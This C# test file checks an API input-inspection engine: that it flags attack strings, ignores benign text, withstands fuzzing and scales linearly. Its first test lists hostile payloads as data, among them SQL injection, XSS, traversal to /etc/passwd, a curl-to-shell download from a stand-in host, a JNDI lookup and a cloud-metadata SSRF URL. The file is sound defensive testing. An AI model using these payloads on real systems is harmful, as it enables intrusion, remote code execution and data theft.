using System.Text;
using System.Text.Json;
using ApiSecurity.Validation;

namespace ApiSecurity.Tests.Validation.Inspection;

/// <summary>The engine alone: evasions, honest texts, work and memory.</summary>
public sealed class InspectorTests
{
    [Theory]
    [InlineData("1' or '1'='1")]
    [InlineData("1'/**/oR/**/'1'='1")]
    [InlineData("1%27%20or%20%271%27%3D%271")]
    [InlineData("1%2527%2520or%2520%25271%2527%253D%25271")]
    [InlineData("a' UNION SELECT username, password FROM users--")]
    [InlineData("-1'/*!50000union*/ select 1")]
    [InlineData("1;SELECT pg_sleep(10)")]
    [InlineData("Robert'); DROP TABLE students;--")]
    [InlineData("' OR EXISTS(SELECT * FROM users) OR ''='")]
    [InlineData("<svg/onload=import('//evil')>")]
    [InlineData("&#x3c;script&#x3e;alert(1)")]
    [InlineData("\\u003cscript\\u003ealert(1)\\u003c/script\\u003e")]
    [InlineData("<a href=\"jav\tascript:alert(1)\">x</a>")]
    [InlineData("\uFF1Cscript\uFF1Ealert(1)")]
    [InlineData("' autofocus onfocus=alert(1) x='")]
    [InlineData("..%2f..%2f..%2fetc%2fpasswd")]
    [InlineData("%c0%ae%c0%ae%c0%afetc")]
    [InlineData("....//....//....//etc/passwd")]
    [InlineData("Li4vLi4vLi4vLi4vZXRjL3Bhc3N3ZA==")]
    [InlineData("; curl http://a.example/x.sh | sh")]
    [InlineData("; c'a't /et'c'/pass\\wd")]
    [InlineData("$(curl a.example)")]
    [InlineData("|| ping -c 10 127.0.0.1")]
    [InlineData("${${lower:j}ndi:ldap://a.example/a}")]
    [InlineData("{{7*7}}")]
    [InlineData("*)(uid=*))(|(uid=*")]
    [InlineData("%0d%0aSet-Cookie:%20a=b")]
    [InlineData("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==")]
    [InlineData("O:8:\"stdClass\":0:{}")]
    [InlineData("http://169.254.169.254/latest/meta-data/")]
    [InlineData("x'] | //user/*[contains(*,'")]
    [InlineData("{\"$gt\":\"\"}")]
    public void An_attack_is_found_whatever_it_wears(string text) => Assert.True(InspectionSamples.IsFound(text, 1));

    [Theory]
    [InlineData("O'Brien & Sons, Ltd.")]
    [InlineData("fish 'n' chips 'n' peas")]
    [InlineData("It's 5 o'clock; time to go home (really).")]
    [InlineData("Please select one or more items from the table below; update as needed.")]
    [InlineData("10\" x 12\" frame, 5' tall")]
    [InlineData("He said 'yes' and she said 'no'")]
    [InlineData("const x = await fetch(url, { method: 'POST' });")]
    [InlineData("status eq 'open' and priority gt 5")]
    [InlineData("Price: 5 < 10 and 10 > 5")]
    [InlineData("Apt is gated; call when you get here, and we'll come down to get it.")]
    [InlineData("cats & dogs | birds; fish")]
    [InlineData("../images/logo.png")]
    [InlineData("C:\\Users\\John\\Documents\\report.docx")]
    [InlineData("https://example.com/search?q=a+b&sort=asc#top")]
    [InlineData("<b>bold</b> and <i>italic</i>, I <3 you")]
    [InlineData("{{ user.name }} and ${HOME}/bin")]
    [InlineData("eval() is evil")]
    [InlineData("L'Oréal & Co's \"best\" product - 'really'")]
    [InlineData("drop table reservations here")]
    [InlineData("Use `git commit -m \"message\"` to commit.")]
    [InlineData("SGVsbG8gV29ybGQsIHRoaXMgaXMgYmFzZTY0")]
    public void An_honest_text_is_left_alone(string text) => Assert.False(InspectionSamples.IsFound(text, 1));

    [Fact]
    public void No_text_breaks_it()
    {
        var path = Repository.PathOf("..", "shared", "data", "naughty-strings", "blns.json");
        Assert.SkipUnless(File.Exists(path), "The shared test data is not here.");
        foreach (var text in JsonSerializer.Deserialize<string[]>(File.ReadAllText(path))!)
        {
            InspectionSamples.IsFound(text, 4);
            InspectionSamples.IsFound(text + text[..(text.Length / 2)], 4);
        }
    }

    [Fact]
    public void Text_of_any_characters_breaks_nothing()
    {
        const string Alphabet = "'\"`<>;|&$(){}[]=\\%#*-+/.,@!:? \t\n\0aeOR1x0uSELECTunion\u00E9\uFF1C\uD800";
        var random = new Random(20261128);
        for (var run = 0; run < 20_000; run++)
        {
            var text = string.Create(random.Next(1, 80), random, static (span, source) =>
            {
                foreach (ref var c in span)
                {
                    c = Alphabet[source.Next(Alphabet.Length)];
                }
            });

            InspectionSamples.IsFound(text, 4);
        }
    }

    public static TheoryData<string> Hostile =>
    [
        "'", "\"", "`", "(", ")", "[", "{", "{{", "${", "<", "<a ", "<a b=", "<!--", "</", "&", "&#", "&#x3c", "%", "%25", "%u", "%c0", "%f0", "\\", "\\u00", "--", "#", "/*", "/*!", "*/", "/**/", ";", "|", "$(", "../", "..", "./", "..;", "?.",
        "a'", "' or ", "1 or ", "union ", "select ", "union select ", "select (", "(select ", "/etc/", "\n", "\r\nlocation", "on=", "onaaaa=", "=", ":", "j a v a s c r i p t :", "javascript ", "$ne", ":\"", "9:\"", "alert(", "a.b(", "id;", "cat ", "0x2e", "0x", "@", "@@", "1e", "n'", "a=' b=", "aaaa ", "A", " ", "é", "\0",
    ];

    /// <summary>Counted, not timed: twice the text is at most about twice the work.</summary>
    [Theory]
    [MemberData(nameof(Hostile))]
    public void Work_grows_with_the_text_and_no_faster(string part)
    {
        var once = Work(part, 20_000);
        var twice = Work(part, 40_000);

        Assert.True(twice <= (2.1 * once) + 1000, $"{once} for 20,000 characters, {twice} for 40,000.");
        Assert.True(once <= 100L * 20_000, $"{once} for 20,000 characters.");
    }

    [Theory]
    [InlineData("""{"id":17,"name":"Ann Example","lines":[{"sku":"oak-table","quantity":1}],"city":"Bern","when":"2026-01-01"}""")]
    [InlineData("""{"note":"it's here, isn't it (or not)?","text":"a < b & c > d"}""")]
    public void Nothing_is_allocated_for_clean_texts(string json)
    {
        var body = Encoding.UTF8.GetBytes(json);
        var settings = new InspectionSettings(new InspectionOptions());
        var matches = 0;

        Assert.Equal(0, Allocations.Of(() =>
        {
            var run = new InspectionRun(settings, null, "/a");
            JsonInspection.Look(body, ref run);
            matches += run.Matches?.Count ?? 0;
        }));
        Assert.Equal(0, matches);
    }

    [Theory]
    [InlineData(1, false)]
    [InlineData(3, true)]
    public void A_higher_level_suspects_more(int level, bool found) => Assert.Equal(found, InspectionSamples.IsFound("../images/logo.png", level));

    private static long Work(string part, int length)
    {
        var findings = new InspectionFindings(4);
        Inspector.Inspect(string.Concat(Enumerable.Repeat(part, length / part.Length)), ref findings);
        return findings.Work;
    }
}
